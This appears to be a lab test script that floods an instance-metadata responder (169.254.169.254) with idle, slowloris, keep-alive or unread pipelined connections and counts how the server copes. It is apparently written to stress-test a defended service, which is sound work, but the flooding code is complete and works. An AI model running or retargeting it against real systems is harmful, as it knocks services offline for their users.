"""Connection flood from one guest: idle, slowloris or keep-alive connections.

What a hostile guest does to starve the responder of file descriptors, memory or
attention. One style per process:
  idle       connect and hold, sending nothing
  slowloris  send a request line, then one header byte every --byte-every seconds
             (3 s), so the head never completes
  keepalive  one GET every --get-every seconds (20 s) on each connection, forever
  unread     a receive window of a few bytes, --pipeline requests for --path
             (user-data) sent at once, never a byte read: held until the server
             resets the connection (reported: how many, and how long after the send)
Connections are opened as fast as the network lets (at most --pending connects in
flight) until --count were tried; everything ends after --seconds. The process raises
its own RLIMIT_NOFILE to fit --count sockets.

    ip netns exec NS python -m transparent_md.lab.attacks.connflood --style idle \
        --count 20000 --seconds 30

Prints one JSON line: how many connections were tried, established, refused or timed
out, closed by the server while held, still open at the end, and (keepalive) how many
responses by status.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import errno
import json
import resource
import select
import socket
import time
from collections import Counter
from dataclasses import dataclass, field

METADATA = ("169.254.169.254", 80)
STYLES = ("idle", "slowloris", "keepalive", "unread")
# Descriptors beyond --count for the interpreter, the event loop and stdio.
FD_HEADROOM = 1024
# Connects in flight at once: enough to open thousands per second, few enough that a
# SYN-dropping datapath does not leave tens of thousands of retransmitting sockets.
DEFAULT_PENDING = 256
# A connect that has not completed in this long counts as refused by the network
# (Linux retransmits the SYN at 1 s and 3 s; a third try means it is being dropped).
CONNECT_TIMEOUT_S = 4.0
SLOWLORIS_BYTE_EVERY_S = 3.0
KEEPALIVE_GET_EVERY_S = 20.0
KEEPALIVE_PATH = "/latest/meta-data/instance-id"
SLOW_REQUEST_LINE = b"GET /latest/meta-data/instance-id HTTP/1.1\r\nHost: 169.254.169.254\r\n"
# The header a slowloris connection drips out, byte by byte, never finished.
SLOW_HEADER = b"X-Slow: " + b"a" * 4096
RECV_BYTES = 4096
UNREAD_PATH = "/latest/user-data"
UNREAD_PIPELINE = 64
# The smallest receive buffer Linux grants (it doubles what is asked, then clamps): the
# peer's window shuts after a few segments.
UNREAD_RCVBUF = 1
_SERVER_ENDED = select.EPOLLRDHUP | select.EPOLLHUP | select.EPOLLERR


@dataclass
class Tally:
    tried: int = 0
    established: int = 0
    connect_refused: int = 0
    connect_timeout: int = 0
    connect_other: Counter = field(default_factory=Counter)
    closed_by_server: int = 0
    open_now: int = 0
    open_at_end: int = 0
    peak_open: int = 0
    statuses: Counter = field(default_factory=Counter)
    reset_by_server: int = 0
    reset_after_s: list[float] = field(default_factory=list)

    def opened(self) -> None:
        self.established += 1
        self.open_now += 1
        self.peak_open = max(self.peak_open, self.open_now)

    def to_json(self) -> dict:
        return {"tried": self.tried, "established": self.established,
                "connect_refused": self.connect_refused,
                "connect_timeout": self.connect_timeout,
                "connect_other": dict(self.connect_other),
                "closed_by_server": self.closed_by_server, "open_at_end": self.open_at_end,
                "peak_open": self.peak_open,
                "responses": {str(k): v for k, v in sorted(self.statuses.items())},
                **self.resets()}

    def resets(self) -> dict:
        """How many connections the server reset, and how long after their requests."""
        if not self.reset_after_s:
            return {"reset_by_server": self.reset_by_server}
        after = sorted(self.reset_after_s)
        return {"reset_by_server": self.reset_by_server,
                "reset_after_p50_s": round(after[len(after) // 2], 2),
                "reset_after_max_s": round(after[-1], 2)}


def raise_nofile(needed: int) -> int:
    """Lift this process's descriptor limit to `needed` (root may raise the hard one)."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = max(soft, needed)
    with contextlib.suppress(ValueError, OSError):
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, max(hard, want)))
    return resource.getrlimit(resource.RLIMIT_NOFILE)[0]


def parse_status(head: bytes) -> int:
    parts = head.split(b" ", 2)
    return int(parts[1]) if len(parts) > 1 and parts[1].isdigit() else 0


class Flood:
    def __init__(self, style: str, count: int, seconds: float, pending: int,
                 source: str | None, byte_every: float, get_every: float,
                 path: str = UNREAD_PATH, pipeline: int = UNREAD_PIPELINE) -> None:
        self.style, self.count, self.source = style, count, source
        self.byte_every, self.get_every = byte_every, get_every
        self.path, self.pipeline = path, pipeline
        self.endings: Endings | None = None
        self.deadline = time.monotonic() + seconds
        self.slots = asyncio.Semaphore(pending)
        self.tally = Tally()
        self.loop = asyncio.get_running_loop()

    def remaining(self) -> float:
        return max(0.0, self.deadline - time.monotonic())

    async def run(self) -> dict:
        holders: list[asyncio.Task] = []
        while self.tally.tried < self.count and self.remaining() > 0:
            try:
                await asyncio.wait_for(self.slots.acquire(), self.remaining())
            except TimeoutError:
                break
            self.tally.tried += 1
            holders.append(asyncio.ensure_future(self.one()))
        await asyncio.sleep(self.remaining())
        self.tally.open_at_end = self.tally.open_now
        for task in holders:
            task.cancel()
        await asyncio.gather(*holders, return_exceptions=True)
        return self.tally.to_json()

    async def one(self) -> None:
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        if self.style == "unread":  # before connecting: the window it announces
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, UNREAD_RCVBUF)
        try:
            if not await self.connect(sock):
                return
            self.tally.opened()
            try:
                await getattr(self, f"hold_{self.style}")(sock)
            finally:
                self.tally.open_now -= 1
        except OSError:
            self.tally.closed_by_server += 1
        finally:
            sock.close()

    async def connect(self, sock: socket.socket) -> bool:
        try:
            if self.source:
                sock.bind((self.source, 0))
            await asyncio.wait_for(self.loop.sock_connect(sock, METADATA),
                                   min(CONNECT_TIMEOUT_S, self.remaining()))
            return True
        except TimeoutError:
            self.tally.connect_timeout += 1
        except ConnectionRefusedError:
            self.tally.connect_refused += 1
        except OSError as exc:
            self.tally.connect_other[errno.errorcode.get(exc.errno, str(exc.errno))] += 1
        finally:
            self.slots.release()
        return False

    async def closed_within(self, sock: socket.socket, seconds: float) -> bool:
        """Wait up to `seconds` for the server to send or close; True if it did."""
        try:
            await asyncio.wait_for(self.loop.sock_recv(sock, RECV_BYTES), seconds)
        except TimeoutError:
            return False
        self.tally.closed_by_server += 1
        return True

    async def hold_idle(self, sock: socket.socket) -> None:
        await self.closed_within(sock, self.remaining())

    async def hold_slowloris(self, sock: socket.socket) -> None:
        await self.loop.sock_sendall(sock, SLOW_REQUEST_LINE)
        for i in range(len(SLOW_HEADER)):
            if await self.closed_within(sock, min(self.byte_every, self.remaining())):
                return
            if self.remaining() <= 0:
                return
            await self.loop.sock_sendall(sock, SLOW_HEADER[i:i + 1])

    async def hold_keepalive(self, sock: socket.socket) -> None:
        request = (f"GET {KEEPALIVE_PATH} HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n").encode()
        while self.remaining() > 0:
            await self.loop.sock_sendall(sock, request)
            status = await self.read_response(sock)
            if status is None:
                self.tally.closed_by_server += 1
                return
            self.tally.statuses[status] += 1
            if await self.closed_within(sock, min(self.get_every, self.remaining())):
                return

    async def hold_unread(self, sock: socket.socket) -> None:
        if self.endings is None:
            self.endings = Endings(self.loop)
        request = (f"GET {self.path} HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n").encode()
        await self.loop.sock_sendall(sock, request * self.pipeline)
        sent = time.monotonic()
        try:
            mask = await asyncio.wait_for(self.endings.wait(sock), self.remaining())
        except TimeoutError:
            return
        if mask & (select.EPOLLHUP | select.EPOLLERR):
            self.tally.reset_by_server += 1
            self.tally.reset_after_s.append(time.monotonic() - sent)
        else:
            self.tally.closed_by_server += 1

    async def read_response(self, sock: socket.socket) -> int | None:
        """Status of one response (head plus Content-Length body); None if closed."""
        buf = b""
        while b"\r\n\r\n" not in buf:
            chunk = await self.loop.sock_recv(sock, RECV_BYTES)
            if not chunk:
                return None
            buf += chunk
        head, _, body = buf.partition(b"\r\n\r\n")
        length = 0
        for line in head.split(b"\r\n")[1:]:
            name, _, value = line.partition(b":")
            if name.strip().lower() == b"content-length" and value.strip().isdigit():
                length = int(value)
        while len(body) < length:
            chunk = await self.loop.sock_recv(sock, RECV_BYTES)
            if not chunk:
                return None
            body += chunk
        return parse_status(head)


class Endings:
    """Tells when the server ends a connection this side never reads from: an epoll of
    hang-ups (FIN: EPOLLRDHUP; reset: EPOLLHUP/EPOLLERR), blind to the data waiting."""

    def __init__(self, loop: asyncio.AbstractEventLoop) -> None:
        self._epoll = select.epoll()
        self._waiting: dict[int, asyncio.Future] = {}
        loop.add_reader(self._epoll.fileno(), self._ready)
        self._loop = loop

    async def wait(self, sock: socket.socket) -> int:
        """The epoll mask with which the server ended `sock`."""
        fd = sock.fileno()
        future = self._loop.create_future()
        self._waiting[fd] = future
        self._epoll.register(fd, select.EPOLLRDHUP)
        try:
            return await future
        finally:
            self._waiting.pop(fd, None)
            with contextlib.suppress(OSError, ValueError):
                self._epoll.unregister(fd)

    def _ready(self) -> None:
        for fd, mask in self._epoll.poll(0):
            future = self._waiting.pop(fd, None)
            self._epoll.unregister(fd)
            if future is not None and not future.done() and mask & _SERVER_ENDED:
                future.set_result(mask)


async def flood(args: argparse.Namespace) -> dict:
    started = time.monotonic()
    result = await Flood(args.style, args.count, args.seconds, args.pending, args.source,
                         args.byte_every, args.get_every, args.path, args.pipeline).run()
    return {"style": args.style, **result, "seconds": round(time.monotonic() - started, 2)}


def main(argv: list[str] | None = None) -> None:
    import uvloop

    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("--style", choices=STYLES, required=True)
    p.add_argument("--count", type=int, default=20_000, help="connections to try")
    p.add_argument("--seconds", type=float, default=30.0, help="whole run, opening included")
    p.add_argument("--pending", type=int, default=DEFAULT_PENDING,
                   help="connects in flight at once")
    p.add_argument("--source", help="local address to bind (a secondary address)")
    p.add_argument("--byte-every", type=float, default=SLOWLORIS_BYTE_EVERY_S)
    p.add_argument("--get-every", type=float, default=KEEPALIVE_GET_EVERY_S)
    p.add_argument("--path", default=UNREAD_PATH, help="what unread connections ask for")
    p.add_argument("--pipeline", type=int, default=UNREAD_PIPELINE,
                   help="requests each unread connection sends at once")
    args = p.parse_args(argv)
    nofile = raise_nofile(args.count + FD_HEADROOM)
    result = uvloop.run(flood(args))
    print(json.dumps({**result, "nofile": nofile}), flush=True)


if __name__ == "__main__":
    main()
